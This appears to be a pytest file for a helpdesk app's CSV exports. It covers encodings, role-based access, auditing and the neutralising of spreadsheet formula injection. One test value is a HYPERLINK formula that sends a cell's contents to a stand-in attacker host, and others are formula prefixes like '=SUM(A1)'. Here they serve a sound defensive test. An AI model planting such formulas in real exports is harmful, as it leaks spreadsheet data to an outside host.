"""CSV exports read back as Excel would: UTF-8 with a BOM or CP932, formulas defused, audited."""

import csv
import io
from zoneinfo import ZoneInfo

import httpx
from sqlalchemy import select
from sqlalchemy.ext.asyncio import AsyncEngine, AsyncSession
from sqlmodel import col

from helpdesk.audit.models import AuditLog
from helpdesk.auth.models import Role
from helpdesk.exports import service
from helpdesk.exports.csvfile import neutralise
from helpdesk.realtime.log import event_sessions
from helpdesk.reports import tasks
from helpdesk.reports.calendar import ReportCalendar
from tests.support.inbound import inbound_body, post_inbound
from tests.support.staff import Staff

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"見る")'


def parse(raw: bytes, encoding: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(raw.decode(encoding), newline="")))


async def some_tickets(http: httpx.AsyncClient) -> list[int]:
    bodies = [("佐藤 花子", "hanako@example.jp", "サイズ交換〜お願いします 🙏"),
              (HOSTILE, "evil@example.jp", "-1+1"),
              ("@admin", "at@example.jp", "\tタブ始まり")]
    ids = []
    for n, (name, email, text) in enumerate(bodies):
        answer = await post_inbound(http, f"export-{n}", inbound_body(text, name=name, email=email))
        assert answer.status_code == 201, answer.text
        ids.append(answer.json()["ticket_id"])
    return ids


async def test_utf8_export_has_a_bom_its_columns_and_no_live_formulas(
        http: httpx.AsyncClient, staff: Staff, db: AsyncSession) -> None:
    boss = await staff.create("boss", Role.supervisor)
    await some_tickets(http)
    answer = await http.get("/api/exports/messages.csv", headers=staff.headers(boss))
    assert answer.status_code == 200
    assert answer.headers["content-type"].startswith("text/csv")
    assert answer.content.startswith(b"\xef\xbb\xbf")
    rows = parse(answer.content, "utf-8-sig")
    assert rows[0] == list(service.EXPORTS["messages"].header)
    bodies = [dict(zip(rows[0], row, strict=True))["body_text"] for row in rows[1:]]
    # Stored exactly as received, shown exactly, but never as a formula.
    assert bodies == ["サイズ交換〜お願いします 🙏", "'-1+1", "'\tタブ始まり"]

    customers = parse((await http.get("/api/exports/customers.csv",
                                      headers=staff.headers(boss))).content, "utf-8-sig")
    by_email = {dict(zip(customers[0], r, strict=True))["emails"]: dict(zip(customers[0], r, strict=True))
                for r in customers[1:]}
    assert by_email["evil@example.jp"]["name"] == "'" + HOSTILE
    assert by_email["at@example.jp"]["name"] == "'@admin"
    assert by_email["hanako@example.jp"]["name"] == "佐藤 花子"
    for row in customers[1:]:
        assert not row[1].startswith(("=", "+", "-", "@", "\t", "\r"))

    audit = (await db.execute(select(col(AuditLog.action), col(AuditLog.target_id), col(AuditLog.actor_id))
                              .where(col(AuditLog.action) == "export").order_by(col(AuditLog.id)))).all()
    assert [tuple(a) for a in audit] == [("export", "messages", boss.id), ("export", "customers", boss.id)]


async def test_cp932_export_reads_back_in_shift_jis_with_unencodable_characters_replaced(
        http: httpx.AsyncClient, staff: Staff) -> None:
    boss = await staff.create("boss", Role.supervisor)
    await some_tickets(http)
    answer = await http.get("/api/exports/messages.csv", params={"encoding": "cp932"},
                            headers=staff.headers(boss))
    assert answer.status_code == 200
    assert "shift_jis" in answer.headers["content-type"].lower()
    assert not answer.content.startswith(b"\xef\xbb\xbf")
    rows = parse(answer.content, "cp932")
    assert rows[0] == list(service.EXPORTS["messages"].header)
    body = dict(zip(rows[0], rows[1], strict=True))["body_text"]
    # The wave dash becomes the full-width tilde CP932 has; the emoji a question mark.
    assert body == "サイズ交換～お願いします ?"


async def test_tickets_export_takes_a_date_range(http: httpx.AsyncClient, staff: Staff) -> None:
    boss = await staff.create("boss", Role.supervisor)
    await some_tickets(http)
    everything = parse((await http.get("/api/exports/tickets.csv", headers=staff.headers(boss))).content,
                       "utf-8-sig")
    assert len(everything) == 4
    old = parse((await http.get("/api/exports/tickets.csv", params={"from": "2001-01-01", "to": "2001-12-31"},
                                headers=staff.headers(boss))).content, "utf-8-sig")
    assert old == [list(service.EXPORTS["tickets"].header)]


async def test_who_may_export_what(http: httpx.AsyncClient, staff: Staff) -> None:
    op = await staff.create("op")
    boss = await staff.create("boss", Role.supervisor)
    admin = await staff.create("root", Role.admin)
    assert (await http.get("/api/exports/tickets.csv", headers=staff.headers(op))).status_code == 403
    assert (await http.get("/api/exports/audit.csv", headers=staff.headers(boss))).status_code == 403
    assert (await http.get("/api/exports/orders.csv", headers=staff.headers(boss))).status_code == 404
    bad = await http.get("/api/exports/tickets.csv", params={"encoding": "latin-1"},
                         headers=staff.headers(boss))
    assert bad.status_code == 422
    audit = await http.get("/api/exports/audit.csv", headers=staff.headers(admin))
    assert audit.status_code == 200
    rows = parse(audit.content, "utf-8-sig")
    assert rows[0] == list(service.EXPORTS["audit"].header)
    assert any(row[2] == "export" for row in rows[1:])


async def test_batches_follow_the_key_without_gaps_or_repeats(
        http: httpx.AsyncClient, engine: AsyncEngine) -> None:
    for n in range(5):
        await post_inbound(http, f"batch-{n}", inbound_body(f"本文 {n}", email=f"c{n}@example.jp"))
    readers = event_sessions(engine, read_only=True)
    seen = [len(batch) async for batch in service.batches(
        readers, service.EXPORTS["messages"], start=None, end=None, batch=2)]
    assert seen == [2, 2, 1]


async def test_report_tables_export_the_same_way(
        http: httpx.AsyncClient, staff: Staff, engine: AsyncEngine, db: AsyncSession) -> None:
    sato = await staff.create("佐藤", inboxes=["default"])
    boss = await staff.create("boss", Role.supervisor)
    ticket_id = (await post_inbound(http, "report-csv", inbound_body("=SUM(A1)"))).json()["ticket_id"]
    claimed = await http.post(f"/api/tickets/{ticket_id}/claim", headers=staff.headers(sato))
    version = claimed.json()["version"]
    await http.patch(f"/api/tickets/{ticket_id}", headers=staff.headers(sato),
                     json={"version": version, "status": "resolved"})
    await tasks.catch_up(event_sessions(engine), ReportCalendar(zone=ZoneInfo("Asia/Tokyo")))
    for encoding, codec in (("utf-8", "utf-8-sig"), ("cp932", "cp932")):
        answer = await http.get("/api/reports/operators", headers=staff.headers(boss),
                                params={"format": "csv", "encoding": encoding})
        assert answer.status_code == 200
        rows = parse(answer.content, codec)
        assert rows[0][:4] == ["date", "user_id", "name", "handled"]
        assert [(r[2], r[3]) for r in rows[1:]] == [("佐藤", "1")]
        inboxes = parse((await http.get("/api/reports/inboxes", headers=staff.headers(boss), params={
            "format": "csv", "encoding": encoding})).content, codec)
        assert inboxes[0][:5] == ["date", "inbox_id", "name", "created", "resolved"]
        assert [(r[2], r[3], r[4]) for r in inboxes[1:]] == [("default", "1", "1")]
    actions = (await db.scalars(select(col(AuditLog.target_id))
                                .where(col(AuditLog.action) == "export"))).all()
    assert sorted(actions) == ["report.inboxes"] * 2 + ["report.operators"] * 2


def test_neutralise_defuses_every_formula_start() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralise(f"{start}1+1") == f"'{start}1+1"
    assert neutralise("普通の文") == "普通の文"
    assert neutralise("") == ""
